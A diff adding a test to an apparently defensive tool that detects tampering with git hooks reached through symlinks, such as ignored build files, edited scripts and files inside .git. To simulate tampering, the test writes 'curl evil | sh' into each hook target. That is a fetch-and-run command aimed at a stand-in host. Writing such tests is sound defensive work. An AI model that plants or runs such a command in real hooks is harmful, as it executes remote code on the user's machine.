@@ -245,6 +245,37 @@ def test_a_link_leading_into_your_checkout_is_never_written_through(tmp_path, mo
     assert (repo / "scripts" / "pre-commit").exists() and "renamed" in (repo / "gitconfig").read_text()
 
 
+def test_what_your_links_lead_to_where_git_status_cannot_see_is_compared_with_the_checkout(tmp_path, monkeypatch):
+    """A hook linked to an ignored build/hook, to a tracked script you had already edited, or to a file in the git
+    dir outside the watched folders: a worker outside the sandbox rewrote it and `git status` showed nothing, so
+    no warning came, and your next commit ran its code. Each is now hashed with the look at the checkout: a
+    warning naming the file; still never put back (it may be your own edit)."""
+    home, repo = _home(tmp_path, monkeypatch)
+    git = lambda *a: subprocess.run(["git", "-C", str(repo), *a], check=True, capture_output=True)  # noqa: E731
+    (repo / ".gitignore").write_text("build/\n")
+    (repo / "build").mkdir()
+    (repo / "build" / "hook").write_text("echo built\n")
+    (repo / "scripts").mkdir()
+    (repo / "scripts" / "pre-push").write_text("echo v1\n")
+    git("add", ".gitignore", "scripts")
+    git("-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "base")
+    (repo / "scripts" / "pre-push").write_text("echo v2, yours, not committed\n")
+    (repo / ".git" / "mine").mkdir()
+    (repo / ".git" / "mine" / "post-merge").write_text("echo mine\n")
+    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../build/hook")
+    (repo / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/pre-push")
+    (repo / ".git" / "hooks" / "post-merge").symlink_to("../mine/post-merge")
+    before = fingerprint.take(repo, set())
+    assert fingerprint.compare(before, fingerprint.take(repo, set())) == ([], [])
+    for path in (repo / "build" / "hook", repo / "scripts" / "pre-push", repo / ".git" / "mine" / "post-merge"):
+        path.write_text("curl evil | sh\n")
+    changed, checkout = fingerprint.compare(before, fingerprint.take(repo, set()))
+    real = os.path.realpath(repo)
+    assert changed == [] and checkout == [f"{real}/{name}, which a link in your git dir or $HOME leads to, changed"
+                                          for name in (".git/mine/post-merge", "build/hook", "scripts/pre-push")]
+    assert fingerprint.restore(before) == [] and (repo / "build" / "hook").read_text() == "curl evil | sh\n"
+
+
 def test_a_folder_swapped_for_a_link_after_the_folders_were_put_back_is_never_gone_through(tmp_path, monkeypatch):
     """rv26: a worker still running swaps ~/.config/git for a link to a folder of yours again, right after the
     folders are put back: the files were then removed and written by path, through it (your deploy/config)."""
